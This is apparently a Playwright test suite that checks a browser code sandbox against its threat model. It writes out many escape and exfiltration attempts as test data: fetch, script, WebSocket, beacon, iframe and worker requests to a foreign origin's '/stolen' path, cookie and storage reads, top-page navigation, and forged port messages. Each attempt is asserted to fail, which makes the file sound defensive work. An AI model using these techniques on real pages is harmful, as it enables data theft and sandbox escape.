/** What code from a reader, or from a link, may not do: each line of the threat model in sandbox/ARCHITECTURE.md. */
import { expect, type Page, test } from '@playwright/test';
import type { Files } from '../../shared/protocol';
import type { RunningApp } from './real-next';
import { openSandbox, serveSandbox } from './sandbox-host';
import { outlast } from './thread';

let site: RunningApp;
let elsewhere: RunningApp;
let reached: string[] = [];

test.beforeAll(async () => {
  site = await serveSandbox((path) => reached.push(path));
  elsewhere = await serveSandbox((path) => reached.push(`elsewhere ${path}`));
});
test.afterAll(() => Promise.all([site.stop(), elsewhere.stop()]));
test.beforeEach(() => {
  reached = [];
});

const layout = `export default function Layout({ children }) { return <html><body>{children}</body></html>; }`;
const clientPage = (body: string): Files => ({
  '/app/layout.tsx': layout,
  '/app/page.tsx': "import { Try } from './try';\nexport default function Page() { return <Try />; }",
  '/app/try.tsx': `'use client';\nimport { useEffect } from 'react';\nexport function Try() {\n  useEffect(() => { ${body} }, []);\n  return <p>Alive</p>;\n}`,
});
const serverPage = (body: string): Files => ({
  '/app/layout.tsx': layout,
  '/app/page.tsx': `export default async function Page() { ${body}\n return <p>Alive</p>; }`,
});

/** Runs statements, each by itself, and tells of each whether it threw; a promise counts when it settles. */
const attempts = (list: Record<string, string>) =>
  `(async () => {
    for (const [name, attempt] of Object.entries({ ${Object.entries(list)
      .map(([name, code]) => `${JSON.stringify(name)}: async () => { ${code} }`)
      .join(', ')} })) {
      try { console.info(name + ' | done | ' + String(await attempt())); } catch (error) { console.info(name + ' | refused | ' + error); }
    }
    console.info('all tried');
  })()`;

async function tryAll(page: Page, files: Files): Promise<string[]> {
  const host = await openSandbox(page, site.url);
  expect(await host.run(files)).toBeUndefined();
  const lines = async () =>
    (await host.messages()).flatMap((message) =>
      message.type === 'console' && message.level === 'info' ? [message.text] : [],
    );
  await expect.poll(lines).toContain('all tried');
  return (await lines()).filter((line) => line !== 'all tried');
}

const outcomes = (lines: string[]) => Object.fromEntries(lines.map((line) => line.split(' | ').slice(0, 2)));
const allRefused = (list: Record<string, string>) =>
  Object.fromEntries(Object.keys(list).map((name) => [name, 'refused']));

const network = (origin: string): Record<string, string> => ({
  [`fetch ${origin}`]: `await Object.getPrototypeOf(async () => 0).constructor('a', 'return fetch(a)')('${origin}/stolen');`,
  [`importScripts or script ${origin}`]: `if (self.importScripts) importScripts('${origin}/stolen'); else await new Promise((ok, no) => { const s = document.createElement('script'); s.src = '${origin}/stolen'; s.onload = ok; s.onerror = no; document.body.append(s); });`,
  [`import ${origin}`]: `await new Function("return import('${origin}/stolen')")();`,
  [`XMLHttpRequest ${origin}`]: `await new Promise((ok, no) => { const x = new XMLHttpRequest(); x.onload = ok; x.onerror = no; x.open('GET', '${origin}/stolen'); x.send(); });`,
  [`WebSocket ${origin}`]: `await new Promise((ok, no) => { const w = new WebSocket('${origin.replace('http', 'ws')}/stolen'); w.onopen = ok; w.onerror = no; });`,
  [`EventSource ${origin}`]: `await new Promise((ok, no) => { const e = new EventSource('${origin}/stolen'); e.onopen = ok; e.onerror = no; });`,
});
const inDocument = (origin: string): Record<string, string> => ({
  [`image ${origin}`]: `await new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = '${origin}/stolen'; });`,
  [`stylesheet ${origin}`]: `await new Promise((ok, no) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${origin}/stolen'; l.onload = ok; l.onerror = no; document.head.append(l); });`,
});
/** The built-in ways to the storage of an origin, below the stand-ins that the client half puts over them. */
const storage: Record<string, string> = {
  localStorage: 'delete window.localStorage; return window.localStorage.length;',
  sessionStorage: 'delete window.sessionStorage; return window.sessionStorage.length;',
  cookie: "return Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document);",
  'setting a cookie':
    "Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').set.call(document, 'inside=1');",
  indexedDB:
    "await new Promise((ok, no) => { const r = indexedDB.open('a'); r.onsuccess = ok; r.onerror = no; });",
  caches: "await caches.open('a');",
};
const page: Record<string, string> = {
  'parent document': 'return window.parent.document.title;',
  'top document': 'return window.top.document.title;',
  'top address': 'return window.top.location.href;',
  'move the top page': "window.top.location = 'about:blank';",
  popup: "if (!window.open('about:blank')) throw new Error('no window');",
};

test('the client half reaches no host, not even the site', async ({ page: browser }) => {
  const list = [site.url, elsewhere.url].reduce(
    (all, origin) => Object.assign(all, network(origin), inDocument(origin)),
    {},
  );
  expect(outcomes(await tryAll(browser, clientPage(attempts(list))))).toEqual(allRefused(list));
  expect(reached.filter((path) => path.includes('stolen'))).toEqual([]);
});

test('the server half reaches no host, not even the site', async ({ page: browser }) => {
  const list = { ...network(site.url), ...network(elsewhere.url) };
  expect(outcomes(await tryAll(browser, serverPage(`await ${attempts(list)};`)))).toEqual(allRefused(list));
  expect(reached.filter((path) => path.includes('stolen'))).toEqual([]);
});

test('code in a nested frame, a beacon, and a link for prefetching reach no host either', async ({
  page: browser,
}) => {
  const url = `${elsewhere.url}/stolen`;
  await tryAll(
    browser,
    clientPage(
      attempts({
        beacon: `navigator.sendBeacon('${url}', 'x');`,
        prefetch: `for (const rel of ['prefetch', 'preload', 'modulepreload']) { const l = document.createElement('link'); Object.assign(l, { rel, href: '${url}', as: 'script' }); document.head.append(l); }`,
        frame: `const f = document.createElement('iframe'); f.src = '${url}'; document.body.append(f);`,
        nested: `const f = document.createElement('iframe'); f.srcdoc = '<img src="${url}"><script>fetch("${url}")</script>'; document.body.append(f);`,
        reopened: `const d = document.implementation.createHTMLDocument(); d.body.innerHTML = '<img src="${url}">'; document.body.append(d.body.firstChild);`,
        worker: `new Worker(URL.createObjectURL(new Blob(['fetch("${url}"); importScripts("${url}")'])));`,
      }),
    ),
  );
  await outlast(browser, elsewhere.url);
  expect(reached.filter((path) => path.includes('stolen'))).toEqual([]);
});

test('storage of the site, its page and its address are out of reach, and no window opens', async ({
  page: browser,
}) => {
  const list = { ...storage, ...page };
  expect(outcomes(await tryAll(browser, clientPage(attempts(list))))).toEqual(allRefused(list));
  expect(browser.context().pages()).toHaveLength(1);
  expect(browser.url()).toBe(`${site.url}/`);
});

test('what an app stores stays in its own stand-ins, and what the site stores is unknown to it', async ({
  page: browser,
}) => {
  await browser.goto(site.url);
  await browser.evaluate(() => {
    localStorage.setItem('site', 'secret');
    sessionStorage.setItem('site', 'secret');
  });
  await browser.context().addCookies([{ name: 'site', value: 'secret', url: site.url }]);
  const stores = ['localStorage', 'sessionStorage'].map(
    (name) =>
      `${name}.setItem('inside', '1'); console.log('${name}', Object.entries({ ...${name} }), ${name}.getItem('site'), ${name}.getItem('inside'));`,
  );
  const host = await openSandbox(browser, site.url);
  await host.run(
    clientPage(`${stores.join('\n')} document.cookie = 'inside=1'; console.log('cookie', document.cookie);`),
  );
  const lines = async () =>
    (await host.messages()).flatMap((message) => (message.type === 'console' ? [message.text] : []));
  await expect.poll(lines).toEqual(['localStorage [] null 1', 'sessionStorage [] null 1', 'cookie inside=1']);
  const sites = await browser.evaluate(() => [
    Object.entries(localStorage),
    Object.entries(sessionStorage),
    document.cookie,
  ]);
  expect(sites).toEqual([[['site', 'secret']], [['site', 'secret']], 'site=secret']);
  expect((await browser.context().cookies()).map(({ name }) => name)).toEqual(['site']);
});

for (const [way, code] of Object.entries({
  'its address': (url: string) => `location.href = '${url}';`,
  'a meta refresh': (url: string) =>
    `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${url}'; document.head.append(m);`,
  'a form': (url: string) =>
    `const f = document.createElement('form'); f.method = 'post'; f.action = '${url}'; document.body.append(f); f.submit();`,
  'a form to the top page': (url: string) =>
    `const f = document.createElement('form'); f.target = '_top'; f.action = '${url}'; document.body.append(f); f.submit();`,
})) {
  test(`the frame cannot leave by ${way}`, async ({ page: browser }) => {
    const host = await openSandbox(browser, site.url);
    for (const { url } of [site, elsewhere]) {
      // Later, so that the build is alive first.
      const leave = `setTimeout(() => { console.log('leaving for ${url}'); ${code(`${url}/stolen`)} });`;
      expect(await host.run(clientPage(leave), { fresh: true })).toBeUndefined();
      await expect.poll(async () => JSON.stringify(await host.messages())).toContain(`leaving for ${url}`);
      await outlast(browser, url);
    }
    expect(reached.filter((path) => path.includes('stolen'))).toEqual([]);
    expect(browser.url()).toBe(`${site.url}/`);
  });
}

test('messages to the page from either half do not come through the port it listens on', async ({
  page: browser,
}) => {
  const host = await openSandbox(browser, site.url);
  await browser.evaluate(() => {
    window.addEventListener(
      'message',
      ({ data }) => data === 'sent' && window.document.body.append('All sent'),
    );
  });
  const forged = "{ type: 'ready', attempt: 99, milliseconds: 0 }";
  await host.run(
    clientPage(
      `for (const w of [parent, top]) w.postMessage(${forged}, '*'); parent.postMessage('connect', '*', [new MessageChannel().port2]); top.postMessage('sent', '*');`,
    ),
  );
  await expect(browser.getByText('All sent')).toBeVisible();
  expect((await host.messages()).filter(({ attempt }) => attempt === 99)).toEqual([]);
});

test('whatever is sent over the ports of the frame reaches the page in the shape of the protocol', async ({
  page: browser,
}) => {
  const host = await openSandbox(browser, site.url);
  const forge = `
    const send = MessagePort.prototype.postMessage;
    MessagePort.prototype.postMessage = function (message, ...rest) {
      for (const bad of [null, 7, { type: 'console', text: { toString: 1 }, level: 'root' }, { type: 'failed', message: {}, stack: [] },
        { type: 'request', id: {}, request: 1 }, { type: 'request', id: 1, request: { method: 'GET', url: 'nonsense', headers: [], body: null } },
        { type: 'ready', attempt: 99 }]) send.call(this, bad);
      return send.call(this, message, ...rest);
    };
    console.log('go');`;
  await host.run(clientPage(forge)); // its forged failures are shown as such
  await expect
    .poll(async () =>
      (await host.messages()).some((message) => message.type === 'console' && message.text === 'go'),
    )
    .toBe(true);
  for (const message of await host.messages()) {
    if (message.type === 'console') expect([typeof message.text, message.level]).toEqual(['string', 'log']);
    expect(message).not.toMatchObject({ attempt: 99 });
  }
});
